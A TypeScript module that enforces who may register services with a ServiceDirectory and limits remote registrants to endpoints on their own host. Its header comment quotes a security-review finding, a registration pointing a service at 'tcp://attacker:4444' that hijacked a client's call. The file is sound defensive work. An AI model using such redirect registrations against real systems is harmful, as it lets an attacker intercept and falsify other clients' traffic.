/**
 * Who may register a service with a ServiceDirectory, and which endpoints a registration may name. A gateway dials
 * whatever endpoint a record names for any client that binds it, so a record pointing at another host is a way
 * to make the gateway connect anywhere (hole 4 of the security review: `register('calc', ['tcp://attacker:4444'])`
 * answered the next client's `calc.add(2, 3)` with 666). By default a registrant names endpoints on its own host.
 */
import type { Identity } from '../auth/authenticator.js';
import { hasRole, Role } from '../auth/roles.js';
import { BadArgumentsError, UnauthorizedError } from '../protocol/errors.js';
import { remoteHost } from '../transports/url.js';

/** Who asks to register, as the directory sees its link. */
export interface Registrant {
  /** What its link authenticated as (undefined on a directory without `authenticate`). */
  readonly identity: Identity | undefined;
  /** Its link's remote address, e.g. `tcp://10.0.0.7:51234`. */
  readonly remote: string;
  /** True for a registrant in this process (`memory://`): it may name any endpoint. */
  readonly inProcess: boolean;
}

export interface RegistrationPolicy {
  /**
   * Whether `registrant` may register `name` at all. Default: on a directory that authenticates its peers, only
   * identities with the `service` role; on an open directory, anyone.
   */
  mayRegister?(registrant: Registrant, name: string): boolean;
  /**
   * Whether a record of `registrant` may name `endpoint` (after an unspecified host, 0.0.0.0 or [::], was replaced
   * by the registrant's). Default: an in-process registrant any endpoint; a remote one only endpoints on its own
   * host (any loopback host if it is on loopback), never `memory://`.
   */
  allowEndpoint?(endpoint: URL, registrant: Registrant): boolean;
}

/** The endpoints to record for `registrant`, or Unauthorized / BadArguments when the policy refuses them. */
export function admitRegistration(
  policy: RegistrationPolicy,
  authenticates: boolean,
  registrant: Registrant,
  name: string,
  endpoints: readonly string[],
): string[] {
  const mayRegister = policy.mayRegister ?? ((r: Registrant) => !authenticates || hasRole(r.identity, Role.service));
  if (!mayRegister(registrant, name)) throw new UnauthorizedError(`not allowed to register services here`);
  const allowEndpoint = policy.allowEndpoint ?? onOwnHost;
  return endpoints.map((endpoint) => {
    const url = parse(endpoint);
    // A listener on every interface is reached, from elsewhere, at the address its registrant came from.
    const rewritten = !registrant.inProcess && isUnspecified(url.hostname);
    if (rewritten) url.hostname = remoteHost(registrant.remote);
    if (!allowEndpoint(url, registrant)) throw new UnauthorizedError(`not allowed to register endpoint ${endpoint}`);
    return rewritten ? url.href : endpoint;
  });
}

/** The default `allowEndpoint`. */
export function onOwnHost(endpoint: URL, registrant: Registrant): boolean {
  if (registrant.inProcess) return true;
  if (endpoint.protocol === 'memory:') return false;
  const host = bare(endpoint.hostname);
  const own = bare(remoteHost(registrant.remote));
  return host === own || (isLoopback(own) && isLoopback(host));
}

function parse(endpoint: string): URL {
  try {
    return new URL(endpoint);
  } catch {
    throw new BadArgumentsError(`not an endpoint URL: ${endpoint}`);
  }
}

const bare = (host: string): string => host.replace(/^\[|\]$/g, '').toLowerCase();
const isUnspecified = (host: string): boolean => ['0.0.0.0', '::', '[::]'].includes(host);
const isLoopback = (host: string): boolean =>
  host === 'localhost' || host === '::1' || host === '::ffff:127.0.0.1' || /^127\.\d+\.\d+\.\d+$/.test(host);
